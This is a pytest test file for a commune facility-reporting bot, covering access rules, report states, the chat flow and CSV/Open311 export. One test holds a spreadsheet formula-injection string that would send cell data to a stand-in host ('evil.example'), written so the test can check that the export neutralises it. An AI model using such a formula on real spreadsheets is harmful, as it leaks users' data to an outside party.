"""Facility reports: officials file for their own commune, leaders move them with a note and the commune hears of
it, a fixed one can be reopened with a photo; nobody else can do any of it."""

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from bot.people import Person
from bot.report_export import Exporter, signature, signed
from bot.reports import (
    MAX_DESCRIPTION,
    Advance,
    Answer,
    Draft,
    NotAllowed,
    ReportFilter,
    ReportService,
    State,
    Step,
    Writing,
    advance,
    read_filter,
    report_number,
)
from bot.roles import Role, RolesService
from handlers.reports import PROBLEMS
from storage.centres import CentresRepo
from storage.db import Database
from storage.people import PeopleRepo
from storage.reports import DraftsRepo, ReportsRepo
from storage.roles import RolesRepo

NOW = datetime(2025, 8, 4, 2, 0, tzinfo=UTC)
ADMIN = Person("telegram", "1")
OFFICIAL = Person("telegram", "7001")
NEIGHBOUR = Person("telegram", "7002")  # an official of another commune
LEADER = Person("zalo", "leader-1")
CITIZEN = Person("telegram", "7009")
DRAFT = Draft("utilities", "high", "Mất điện từ sáng, máy lấy số không chạy.", ("photo-1", "photo-2"))


@pytest.fixture
async def reports(db: Database, centres_repo: CentresRepo) -> ReportService:
    roles = RolesService(RolesRepo(db), PeopleRepo(db), frozenset({ADMIN}))
    for person, role, commune in ((OFFICIAL, Role.OFFICIAL, "06385"), (NEIGHBOUR, Role.OFFICIAL, "06076")):
        await roles.redeem(person, (await roles.invite(role, commune, "cli", NOW)).code, NOW)
    await roles.redeem(LEADER, (await roles.invite(Role.LEADER, None, "cli", NOW)).code, NOW)
    return ReportService(ReportsRepo(db), PeopleRepo(db), roles, DraftsRepo(db))


async def outbox(db: Database) -> list[tuple[str, str, dict[str, object]]]:
    rows = await db.fetchall(
        "SELECT p.external_id, o.kind, o.payload FROM outbox o JOIN people p ON p.id = o.person_id ORDER BY o.id"
    )
    return [(row[0], row[1], json.loads(row[2])) for row in rows]


async def test_an_official_files_for_their_commune_with_a_target(reports: ReportService, db: Database) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    assert (report.number, report.commune_code, report.state, report.photos) == ("BC-000001", "06385", State.NEW, 2)
    assert report.target_at == NOW + timedelta(days=3)  # electricity, water, toilets: three days
    assert not report.past_target(NOW + timedelta(days=3)) and report.past_target(NOW + timedelta(days=3, seconds=1))
    assert await outbox(db) == []  # only a report that stops service alerts the leaders
    assert (await reports.open_duplicate(OFFICIAL, "utilities")) == report
    assert await reports.open_duplicate(NEIGHBOUR, "utilities") is None


async def test_a_report_that_stops_service_alerts_every_leader_at_once(reports: ReportService, db: Database) -> None:
    await reports.file(OFFICIAL, Draft("it", "blocking", "Mạng mất, không tiếp nhận được hồ sơ."), NOW)
    [(leader, kind, payload)] = await outbox(db)
    assert (leader, kind) == ("leader-1", "report_blocking")
    assert payload["commune"] == "Xã Hữu Lũng"
    row = await db.fetchone("SELECT urgent FROM outbox")
    assert row is not None and row["urgent"] == 1


async def test_leaders_move_reports_and_the_commune_is_told(reports: ReportService, db: Database) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    moved = await reports.move(LEADER, report.id, State.IN_PROGRESS, "Điện lực đang sửa.", NOW + timedelta(hours=1))
    assert moved.state is State.IN_PROGRESS
    fixed = await reports.move(ADMIN, report.id, State.FIXED, "", NOW + timedelta(days=1))
    assert fixed.closed_at == NOW + timedelta(days=1) and not fixed.is_open
    messages = [(who, kind, payload["state"], payload["note"]) for who, kind, payload in await outbox(db)]
    assert messages == [
        ("7001", "report_moved", "in_progress", "Điện lực đang sửa."),
        ("7001", "report_moved", "fixed", None),
    ]
    with pytest.raises(ValueError, match="cannot move"):
        await reports.move(LEADER, report.id, State.CANNOT_FIX, "", NOW)  # closed: only the commune reopens it
    other = await reports.file(OFFICIAL, DRAFT, NOW)
    for state in (State.CANNOT_FIX, State.DUPLICATE):  # closing so needs the reason the commune is told
        with pytest.raises(ValueError, match="needs a reason"):
            await reports.move(LEADER, other.id, state, "  ", NOW)


async def test_the_commune_reopens_a_fixed_report_with_a_photo(reports: ReportService) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    await reports.move(LEADER, report.id, State.FIXED, "Đã thay cầu dao.", NOW + timedelta(days=1))
    with pytest.raises(ValueError, match="photo"):
        await reports.reopen(OFFICIAL, report.id, "Vẫn mất điện.", "", NOW + timedelta(days=2))
    with pytest.raises(NotAllowed):
        await reports.reopen(NEIGHBOUR, report.id, "?", "photo-x", NOW + timedelta(days=2))
    again = await reports.reopen(OFFICIAL, report.id, "Vẫn mất điện.", "photo-3", NOW + timedelta(days=2))
    assert (again.state, again.photos, again.closed_at) == (State.NEW, 3, None)
    assert again.target_at == NOW + timedelta(days=5)  # the clock restarts
    kinds = [row["kind"] for row in await reports.repo.events(report.id)]
    assert kinds == ["created", "moved", "reopened"]


async def test_nobody_else_may_file_move_or_see(reports: ReportService) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    for person in (CITIZEN, LEADER, ADMIN):
        with pytest.raises(NotAllowed):
            await reports.file(person, DRAFT, NOW)
    for person in (CITIZEN, OFFICIAL, NEIGHBOUR):
        with pytest.raises(NotAllowed):
            await reports.move(person, report.id, State.RECEIVED, "", NOW)
        if person != OFFICIAL:
            with pytest.raises(NotAllowed):
                await reports.add_to(person, report.id, DRAFT, NOW)
    with pytest.raises(NotAllowed):
        await reports.open_reports(CITIZEN, NOW)
    with pytest.raises(NotAllowed):
        await reports.open_report(OFFICIAL, report.id)
    with pytest.raises(NotAllowed):
        await reports.move(LEADER, 999, State.RECEIVED, "", NOW)  # the same answer as for one they may not see
    assert [r.number for r in (await reports.of_my_commune(OFFICIAL))[0]] == ["BC-000001"]
    assert await reports.of_my_commune(NEIGHBOUR) == ([], 0)
    assert [r.number for r in await reports.open_reports(LEADER, NOW)] == ["BC-000001"]
    assert (await reports.open_report(LEADER, report.id)).number == "BC-000001"


async def test_leaders_filter_open_reports(reports: ReportService) -> None:
    power = await reports.file(OFFICIAL, DRAFT, NOW)  # due in 3 days
    rooms = await reports.file(OFFICIAL, Draft("rooms", "medium", "Phòng một cửa chật."), NOW)  # 30 days
    kitchen = await reports.file(NEIGHBOUR, Draft("kitchen", "low", "Chưa có bếp ăn."), NOW)
    fixed = await reports.file(NEIGHBOUR, Draft("it", "high", "Mất mạng."), NOW)
    await reports.move(LEADER, fixed.id, State.FIXED, "", NOW)

    async def numbers(wanted: ReportFilter | None, now: datetime = NOW) -> list[int]:
        assert wanted is not None
        return [r.id for r in await reports.open_reports(LEADER, now, wanted)]

    def communes(text: str) -> str | None:
        return {"Hữu Lũng": "06385"}.get(text)

    assert await numbers(read_filter("", communes)) == [power.id, rooms.id, kitchen.id]  # by severity, then age
    urgent = await reports.file(NEIGHBOUR, Draft("utilities", "blocking", "Mất nước."), NOW + timedelta(hours=1))
    assert await numbers(read_filter("", communes)) == [urgent.id, power.id, rooms.id, kitchen.id]  # issue 15
    await reports.move(LEADER, urgent.id, State.FIXED, "", NOW)
    assert await numbers(read_filter("quá hạn", communes), NOW + timedelta(days=4)) == [power.id]
    assert await numbers(read_filter("overdue", communes), NOW + timedelta(days=31)) == [power.id, rooms.id, kitchen.id]
    assert await numbers(read_filter("Điện", communes)) == [power.id]
    assert await numbers(read_filter("kitchen", communes)) == [kitchen.id]
    assert await numbers(read_filter("phong", communes)) == [rooms.id]  # without diacritics
    assert await numbers(read_filter("Hữu Lũng", communes)) == [power.id, rooms.id]
    assert read_filter("xyz", communes) is None
    with pytest.raises(NotAllowed):
        await reports.open_report(LEADER, fixed.id)  # closed: nothing to move


async def test_adding_to_an_open_report_and_bad_drafts(reports: ReportService) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    more = await reports.add_to(OFFICIAL, report.id, Draft("utilities", "high", "Thêm ảnh.", ("p3",)), NOW)
    assert more.photos == 3
    for bad, why in (
        (Draft("kitchen", "urgent", "x"), "severity"),
        (Draft("pool", "low", "x"), "category"),
        (Draft("kitchen", "low", "   "), "description"),
        (Draft("kitchen", "low", "x", tuple(f"p{i}" for i in range(6))), "photos"),
        (Draft("kitchen", "low", "x", lat=21.8), "coordinates"),
    ):
        with pytest.raises(ValueError, match=why):
            await reports.file(OFFICIAL, bad, NOW)


def test_report_numbers() -> None:
    assert report_number(123) == "BC-000123"


async def export(reports: ReportService, form: str, **options: str) -> str:
    def names(code: str) -> str:
        return {"06385": "Xã Hữu Lũng", "06076": "Phường Tam Thanh"}.get(code, code)

    out = io.StringIO()
    exporter = Exporter(ZoneInfo("Asia/Ho_Chi_Minh"), names, **options)
    exporter.write(await reports.export(), form, out)
    return out.getvalue()


async def test_export_as_csv_and_as_open311(reports: ReportService) -> None:
    draft = replace(DRAFT, photos=("tg-file-1", "https://zalo.example/p/2.jpg"), lat=21.68, lon=106.35)
    fixed = await reports.file(OFFICIAL, draft, NOW)
    await reports.move(LEADER, fixed.id, State.FIXED, "Đã thay cầu dao.", NOW + timedelta(hours=5))
    waiting = await reports.file(NEIGHBOUR, Draft("kitchen", "low", 'Chưa có bếp, "tạm" nấu nhờ.'), NOW)

    rows = list(csv.DictReader(io.StringIO(await export(reports, "csv"))))
    assert [row["so_bao_cao"] for row in rows] == ["BC-000001", "BC-000002"]
    first, second = rows
    assert (first["ten_xa"], first["ten_loai"], first["ten_muc_do"]) == (
        "Xã Hữu Lũng",
        "Điện, nước, nhà vệ sinh",
        "Cao",
    )
    assert (first["trang_thai"], first["ten_trang_thai"], first["ghi_chu_cuoi"]) == (
        "fixed",
        "Đã khắc phục",
        "Đã thay cầu dao.",
    )
    assert first["ngay_bao_cao"] == "2025-08-04T09:00:00+07:00"  # in the province's time
    assert first["ngay_dong"] == "2025-08-04T14:00:00+07:00" and first["han_khac_phuc"] == "2025-08-07T09:00:00+07:00"
    assert (first["vi_do"], first["kinh_do"], first["so_anh"]) == ("21.68", "106.35", "2")
    assert first["anh"] == "https://zalo.example/p/2.jpg"  # without a public URL, only a photo kept as a URL
    assert second["mo_ta"] == 'Chưa có bếp, "tạm" nấu nhờ.' and second["ngay_dong"] == "" and second["vi_do"] == ""

    key = "ingest-token-0123456789abcdef"
    requests = json.loads(await export(reports, "open311", public_url="https://phucvu.example.vn/", key=key))
    done, open_one = requests
    assert done["service_request_id"] == "BC-000001" and done["status"] == "closed"
    assert done["status_notes"] == "Đã khắc phục: Đã thay cầu dao."
    assert (done["service_code"], done["service_name"]) == ("utilities", "Điện, nước, nhà vệ sinh")
    assert (done["lat"], done["long"], done["address_id"]) == (21.68, 106.35, "06385")
    assert done["requested_datetime"] == "2025-08-04T09:00:00+07:00"
    assert done["updated_datetime"] == "2025-08-04T14:00:00+07:00"
    assert done["expected_datetime"] == "2025-08-07T09:00:00+07:00"
    signature_of_1 = signature(key, fixed.id, 1)
    assert done["media_url"] == f"https://phucvu.example.vn/media/reports/1/1/{signature_of_1}"
    assert done["extended_attributes"]["media_urls"] == [done["media_url"], "https://zalo.example/p/2.jpg"]
    assert signed(key, fixed.id, 1, signature_of_1) and not signed(key, fixed.id, 2, signature_of_1)
    assert not signed("", fixed.id, 1, signature_of_1)
    assert open_one["status"] == "open" and open_one["status_notes"] == "Mới" and open_one["media_url"] is None
    assert open_one["service_request_id"] == report_number(waiting.id)
    assert {"lat", "long", "description", "agency_responsible", "zipcode"} <= set(open_one)
    assert [r.report.id for r in await reports.export(open_only=True)] == [waiting.id]
    with pytest.raises(ValueError, match="unknown format"):
        Exporter(ZoneInfo("UTC"), str).write([], "xml", io.StringIO())


async def test_category_words_match_at_the_start_of_a_word(reports: ReportService) -> None:
    assert read_filter("IT", lambda text: None) == ReportFilter(categories=frozenset({"it"}))  # not kitchen
    assert read_filter("bếp", lambda text: None) == ReportFilter(categories=frozenset({"kitchen"}))


async def test_the_export_is_safe_for_spreadsheets_and_notes_are_the_leaders(reports: ReportService) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem ảnh")'
    report = await reports.file(OFFICIAL, Draft("it", "low", formula), NOW)
    await reports.move(LEADER, report.id, State.IN_PROGRESS, "Đã liên hệ nhà mạng.", NOW)
    await reports.add_to(OFFICIAL, report.id, Draft("it", "low", "Hôm nay mất hẳn mạng."), NOW)
    [row] = list(csv.DictReader(io.StringIO(await export(reports, "csv"))))
    assert row["mo_ta"] == "'" + formula  # a spreadsheet shows it as text, never runs it
    assert row["ghi_chu_cuoi"] == "Đã liên hệ nhà mạng."  # the leader's, not the commune's addition
    later = NOW + timedelta(hours=2)
    await reports.note(LEADER, report.id, "=Nhà mạng hẹn thứ Năm.", later)  # a note added later reaches the export
    [row] = list(csv.DictReader(io.StringIO(await export(reports, "csv"))))
    assert row["ghi_chu_cuoi"] == "'=Nhà mạng hẹn thứ Năm."
    assert row["cac_ghi_chu"].splitlines() == [
        "2025-08-04T09:00:00+07:00 (tinh) Đã liên hệ nhà mạng.",
        "2025-08-04T09:00:00+07:00 (xa) Hôm nay mất hẳn mạng.",
        "2025-08-04T11:00:00+07:00 (tinh) =Nhà mạng hẹn thứ Năm.",
    ]
    [request] = json.loads(await export(reports, "open311"))
    assert request["status_notes"] == "Đang xử lý: =Nhà mạng hẹn thứ Năm." and request["description"] == formula
    assert [(n["nguon"], n["ghi_chu"]) for n in request["extended_attributes"]["notes"]] == [
        ("tinh", "Đã liên hệ nhà mạng."),
        ("xa", "Hôm nay mất hẳn mạng."),
        ("tinh", "=Nhà mạng hẹn thứ Năm."),
    ]


async def test_submit_adds_or_files(reports: ReportService) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    added = await reports.submit(OFFICIAL, Draft("utilities", "low", "Thêm."), report.id, NOW)
    assert (added.report.id, added.added, added.meant_for) == (report.id, True, None)
    await reports.move(LEADER, report.id, State.FIXED, "", NOW)
    filed = await reports.submit(OFFICIAL, Draft("utilities", "low", "Lại mất điện."), report.id, NOW)
    assert (filed.added, filed.meant_for) == (False, report.id) and filed.report.id != report.id
    with pytest.raises(NotAllowed):
        await reports.submit(CITIZEN, DRAFT, None, NOW)


# The conversation that writes a report, as a table: the official's step, what they sent, where it leads.
AT = {
    Step.CATEGORY: Writing(Step.CATEGORY),
    Step.DUPLICATE: Writing(Step.DUPLICATE, category="utilities", add_to=7),
    Step.SEVERITY: Writing(Step.SEVERITY, category="utilities"),
    Step.DESCRIPTION: Writing(Step.DESCRIPTION, category="utilities", severity="high"),
    Step.PHOTOS: Writing(Step.PHOTOS, category="utilities", severity="high", description="Mất điện.", photos=("p1",)),
    Step.LOCATION: Writing(
        Step.LOCATION, category="utilities", severity="high", description="Mất điện.", photos=("p1",)
    ),
    Step.CONFIRM: Writing(
        Step.CONFIRM, category="utilities", severity="high", description="Mất điện.", lat=21.85, lon=106.76
    ),
    Step.REOPEN: Writing(Step.REOPEN, add_to=3),
}
FIVE = replace(AT[Step.LOCATION], photos=("p1", "p2", "p3", "p4", "p5"))
FOUR = replace(AT[Step.PHOTOS], photos=("p1", "p2", "p3", "p4"))
LONG = "Mất điện. " * 300


def moved(writing: Writing, step: Step, effect: str = "", **changes: object) -> Advance:
    """The answer takes `writing` to `step`, changed so."""
    return Advance(replace(writing, step=step, **changes), effect)


def problem(name: str = "") -> Advance:
    """The answer does not fit: the step stays, and `name` says why (nothing: the question again)."""
    return Advance(problem=name)


def to_duplicate(category: str) -> Advance:
    return moved(AT[Step.CATEGORY], Step.DUPLICATE, "duplicate", category=category, add_to=None)


def to_description(severity: str) -> Advance:
    return moved(AT[Step.SEVERITY], Step.DESCRIPTION, severity=severity)


def to_location(writing: Writing = AT[Step.PHOTOS]) -> Advance:
    return moved(writing, Step.LOCATION)


def to_confirm(lat: float | None = None, lon: float | None = None) -> Advance:
    return moved(AT[Step.LOCATION], Step.CONFIRM, lat=lat, lon=lon)


ADVANCES = [
    # The kind of problem: a choice, its name or a word of it in either language; nothing else.
    (AT[Step.CATEGORY], Answer(choice="c:utilities"), to_duplicate("utilities")),
    (AT[Step.CATEGORY], Answer(text="điện"), to_duplicate("utilities")),
    (AT[Step.CATEGORY], Answer(text="Điện, nước, nhà vệ sinh"), to_duplicate("utilities")),
    (AT[Step.CATEGORY], Answer(text="MẠNG"), to_duplicate("it")),
    (AT[Step.CATEGORY], Answer(text="IT"), to_duplicate("it")),
    (AT[Step.CATEGORY], Answer(text="kitchen"), to_duplicate("kitchen")),
    (AT[Step.CATEGORY], Answer(text="khác"), to_duplicate("other")),
    (Writing(Step.CATEGORY, add_to=5), Answer(choice="c:it"), to_duplicate("it")),  # begun again: no addition
    (AT[Step.CATEGORY], Answer(text="nhà"), problem("choose")),  # toilets, or lodging?
    (AT[Step.CATEGORY], Answer(text="xe cứu hỏa"), problem("choose")),
    (AT[Step.CATEGORY], Answer(text="gửi"), problem("choose")),  # `gui` begins no word: it is no `guidance`
    (AT[Step.CATEGORY], Answer(text="mất điện"), to_duplicate("utilities")),
    (AT[Step.CATEGORY], Answer(text="máy tính hỏng"), to_duplicate("it")),
    (AT[Step.CATEGORY], Answer(text="wifi"), to_duplicate("it")),
    (AT[Step.CATEGORY], Answer(text="cao"), problem("choose")),
    (AT[Step.CATEGORY], Answer(choice="c:bogus"), problem("choose")),
    (AT[Step.CATEGORY], Answer(choice="s:high"), problem("choose")),  # another step's choice
    (AT[Step.CATEGORY], Answer(location=(21.85, 106.76)), problem("choose")),
    (AT[Step.CATEGORY], Answer(photo="ph", text="Mất điện."), problem("photo_not_here")),
    # Add to the commune's open report of that kind, or not.
    (AT[Step.DUPLICATE], Answer(choice="d:add"), moved(AT[Step.DUPLICATE], Step.SEVERITY)),
    (AT[Step.DUPLICATE], Answer(choice="d:new"), moved(AT[Step.DUPLICATE], Step.SEVERITY, add_to=None)),
    (AT[Step.DUPLICATE], Answer(text="thêm"), moved(AT[Step.DUPLICATE], Step.SEVERITY)),
    (AT[Step.DUPLICATE], Answer(text="add"), moved(AT[Step.DUPLICATE], Step.SEVERITY)),
    (AT[Step.DUPLICATE], Answer(text="mới"), moved(AT[Step.DUPLICATE], Step.SEVERITY, add_to=None)),
    (AT[Step.DUPLICATE], Answer(text="new"), moved(AT[Step.DUPLICATE], Step.SEVERITY, add_to=None)),
    (AT[Step.DUPLICATE], Answer(text="báo cáo"), problem("choose")),  # in both names
    (AT[Step.DUPLICATE], Answer(text="có"), problem("choose")),
    (AT[Step.DUPLICATE], Answer(text="gửi"), problem("choose")),
    (AT[Step.DUPLICATE], Answer(choice="d:maybe"), problem("choose")),
    (AT[Step.DUPLICATE], Answer(photo="ph"), problem("photo_not_here")),
    # The severity: a choice, or its name typed (at a step that offers numbered choices).
    (AT[Step.SEVERITY], Answer(choice="s:blocking"), to_description("blocking")),
    (AT[Step.SEVERITY], Answer(text="cao"), to_description("high")),
    (AT[Step.SEVERITY], Answer(text="Cao!"), to_description("high")),
    (AT[Step.SEVERITY], Answer(text="trung bình"), to_description("medium")),
    (AT[Step.SEVERITY], Answer(text="thấp"), to_description("low")),
    (AT[Step.SEVERITY], Answer(text="dừng phục vụ"), to_description("blocking")),
    (AT[Step.SEVERITY], Answer(text="high"), to_description("high")),
    (AT[Step.SEVERITY], Answer(text="rất nặng"), to_description("high")),  # the words officials use
    (AT[Step.SEVERITY], Answer(text="khẩn cấp"), to_description("blocking")),
    (AT[Step.SEVERITY], Answer(text="rất to"), problem("choose")),
    (AT[Step.SEVERITY], Answer(choice="s:huge"), problem("choose")),
    (AT[Step.SEVERITY], Answer(choice="c:it"), problem("choose")),
    (AT[Step.SEVERITY], Answer(photo="ph", text="cao"), problem("photo_not_here")),
    # The description: any text (a photo's caption too, the photo then the first one); a photo alone is not one.
    (
        AT[Step.DESCRIPTION],
        Answer(text="  Mất điện từ sáng.  "),
        moved(AT[Step.DESCRIPTION], Step.PHOTOS, description="Mất điện từ sáng."),
    ),
    (AT[Step.DESCRIPTION], Answer(text="cao"), moved(AT[Step.DESCRIPTION], Step.PHOTOS, description="cao")),
    (
        AT[Step.DESCRIPTION],
        Answer(text="Máy in hỏng.", photo="ph"),
        moved(AT[Step.DESCRIPTION], Step.PHOTOS, description="Máy in hỏng.", photos=("ph",)),
    ),
    (
        AT[Step.DESCRIPTION],
        Answer(text=LONG),
        moved(AT[Step.DESCRIPTION], Step.PHOTOS, description=LONG.strip()[:MAX_DESCRIPTION]),
    ),
    (AT[Step.DESCRIPTION], Answer(photo="ph"), problem("text_needed")),
    (AT[Step.DESCRIPTION], Answer(text="   "), problem()),
    (AT[Step.DESCRIPTION], Answer(location=(21.85, 106.76)), problem()),
    (AT[Step.DESCRIPTION], Answer(choice="s:high"), problem()),  # a stale choice
    # Photos: up to five (the fifth ends the step), then «Xong» or a word for it.
    (AT[Step.PHOTOS], Answer(photo="p2"), moved(AT[Step.PHOTOS], Step.PHOTOS, "photo", photos=("p1", "p2"))),
    (
        AT[Step.PHOTOS],
        Answer(photo="p2", text="cầu dao"),
        moved(AT[Step.PHOTOS], Step.PHOTOS, "photo", photos=("p1", "p2")),
    ),
    (FOUR, Answer(photo="p5"), moved(FOUR, Step.LOCATION, photos=(*FOUR.photos, "p5"))),
    (AT[Step.PHOTOS], Answer(choice="p:done"), to_location()),
    (AT[Step.PHOTOS], Answer(text="xong"), to_location()),
    (AT[Step.PHOTOS], Answer(text="Xong!"), to_location()),
    (AT[Step.PHOTOS], Answer(text="done"), to_location()),
    (AT[Step.PHOTOS], Answer(text="không có ảnh"), to_location()),
    (AT[Step.PHOTOS], Answer(text="ảnh đây"), problem()),
    (AT[Step.PHOTOS], Answer(choice="l:skip"), problem()),
    (AT[Step.PHOTOS], Answer(location=(21.85, 106.76)), problem()),
    # Where: a shared location or typed coordinates in Viet Nam, or «Bỏ qua»; a number that is no place says so.
    (AT[Step.LOCATION], Answer(choice="l:skip"), to_confirm()),
    (AT[Step.LOCATION], Answer(text="bỏ qua"), to_confirm()),
    (AT[Step.LOCATION], Answer(text="Bỏ qua."), to_confirm()),
    (AT[Step.LOCATION], Answer(text="skip"), to_confirm()),
    (AT[Step.LOCATION], Answer(text="không"), to_confirm()),
    (AT[Step.LOCATION], Answer(location=(21.65, 106.33)), to_confirm(21.65, 106.33)),
    (AT[Step.LOCATION], Answer(text="21.8537, 106.7615"), to_confirm(21.8537, 106.7615)),
    (AT[Step.LOCATION], Answer(text="21,8537; 106,7615"), to_confirm(21.8537, 106.7615)),
    (AT[Step.LOCATION], Answer(text="21.8537 106.7615"), to_confirm(21.8537, 106.7615)),
    (AT[Step.LOCATION], Answer(text="21,85"), problem("coordinates")),  # a latitude alone
    (AT[Step.LOCATION], Answer(text="48.85, 2.35"), problem("coordinates")),  # Paris
    (AT[Step.LOCATION], Answer(text="106.76, 21.85"), problem("coordinates")),  # the wrong way round
    (AT[Step.LOCATION], Answer(location=(48.85, 2.35)), problem("coordinates")),
    (AT[Step.LOCATION], Answer(text="số 5 Lê Lợi"), problem("coordinates")),
    (AT[Step.LOCATION], Answer(text="gần chợ"), problem()),
    (AT[Step.LOCATION], Answer(text="xong"), problem()),
    (AT[Step.LOCATION], Answer(photo="p2"), problem("photo_not_here")),  # after «Xong»: no more photos
    (FIVE, Answer(photo="p6"), problem("photos_full")),
    (AT[Step.LOCATION], Answer(choice="ok"), problem()),
    # Send what the summary shows.
    (AT[Step.CONFIRM], Answer(choice="ok"), Advance(AT[Step.CONFIRM], "send")),
    (AT[Step.CONFIRM], Answer(text="gửi"), Advance(AT[Step.CONFIRM], "send")),
    (AT[Step.CONFIRM], Answer(text="Gửi!"), Advance(AT[Step.CONFIRM], "send")),
    (AT[Step.CONFIRM], Answer(text="gửi báo cáo"), Advance(AT[Step.CONFIRM], "send")),
    (AT[Step.CONFIRM], Answer(text="đồng ý"), Advance(AT[Step.CONFIRM], "send")),
    (AT[Step.CONFIRM], Answer(text="send"), Advance(AT[Step.CONFIRM], "send")),
    (AT[Step.CONFIRM], Answer(text="xong"), problem()),
    (AT[Step.CONFIRM], Answer(text="bỏ qua"), problem()),
    (AT[Step.CONFIRM], Answer(choice="l:skip"), problem()),
    (AT[Step.CONFIRM], Answer(location=(21.65, 106.33)), problem()),
    (AT[Step.CONFIRM], Answer(photo="ph"), problem("photo_not_here")),
    # Reopen a report marked fixed: a photo (its caption the note), nothing else.
    (AT[Step.REOPEN], Answer(photo="ph", text="Vẫn hỏng."), Advance(AT[Step.REOPEN], "reopen")),
    (AT[Step.REOPEN], Answer(photo="ph"), Advance(AT[Step.REOPEN], "reopen")),
    (AT[Step.REOPEN], Answer(text="vẫn hỏng"), problem("photo_needed")),
    (AT[Step.REOPEN], Answer(choice="ok"), problem("photo_needed")),
    (AT[Step.REOPEN], Answer(location=(21.65, 106.33)), problem("photo_needed")),
]


def case(writing: Writing, answer: Answer, expected: Advance) -> str:
    given = ", ".join(f"{name}={value!r:.24}" for name, value in vars(answer).items() if value)
    return f"{writing.step}-{given or 'nothing'}"


@pytest.mark.parametrize(("writing", "answer", "expected"), ADVANCES, ids=[case(*row) for row in ADVANCES])
def test_advance(writing: Writing, answer: Answer, expected: Advance) -> None:
    assert advance(writing, answer) == expected


def test_the_table_holds_every_step_and_every_problem() -> None:
    assert {writing.step for writing, _, _ in ADVANCES} == set(Step)
    problems = {expected.problem for _, _, expected in ADVANCES}
    assert problems == {"", *PROBLEMS}  # and each problem has its message
    effects = {expected.effect for _, _, expected in ADVANCES}
    assert effects == {"", "duplicate", "photo", "send", "reopen"}


async def test_filing_ends_the_draft_in_the_same_transaction(reports: ReportService, db: Database) -> None:
    """The bot killed between filing a report and forgetting the draft: after the restart, «Gửi» pressed again finds
    no draft, so no second report and no second alert to the leaders (issue 14)."""
    blocking = Draft("utilities", "blocking", "Mất điện toàn trung tâm.")
    for add_to in (None, 1):  # filed on its own, then added to that open report
        writing = Writing(Step.CONFIRM, blocking.category, blocking.severity, blocking.description, add_to=add_to)
        await reports.write(OFFICIAL, writing, NOW)
        await reports.submit(OFFICIAL, writing.draft(), writing.add_to, NOW)  # no stop_writing: killed here
        restarted = ReportService(reports.repo, reports.people, reports.roles, reports.drafts)
        await restarted.load()
        assert await restarted.writing(OFFICIAL) is None
    assert [row[0] for row in await db.fetchall("SELECT id FROM reports")] == [1]
    alerts = [row for row in await outbox(db) if row[1] == "report_blocking"]
    assert len(alerts) == 1
